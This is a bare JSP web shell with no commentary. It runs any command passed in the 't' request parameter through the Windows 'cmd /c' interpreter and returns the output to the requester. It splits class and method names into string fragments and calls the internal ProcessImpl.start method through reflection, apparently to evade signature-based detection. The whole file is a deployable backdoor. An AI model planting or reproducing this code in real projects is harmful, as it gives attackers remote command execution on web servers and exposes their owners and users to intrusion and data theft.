<%@ page import="java.lang.reflect.Method,java.util.Map,java.io.*" %>
<%
    String[] cmd = {"cmd", "/c", request.getParameter("t")};
    String a = "java.la", b = "ng.Pro", c = "cessImpl";
    Class<?> pi = Class.forName(a + b + c);
    Method m = pi.getDeclaredMethod("st" + "art", String[].class, Map.class, String.class,
            ProcessBuilder.Redirect[].class, boolean.class);
    m.setAccessible(true);
    Process p = (Process) m.invoke(null, cmd, null, ".", null, true);
    InputStream in = p.getInputStream();
    byte[] buf = new byte[2048];
    int n;
    ByteArrayOutputStream bo = new ByteArrayOutputStream();
    while ((n = in.read(buf)) > 0) bo.write(buf, 0, n);
    out.print(new String(bo.toByteArray()));
%>
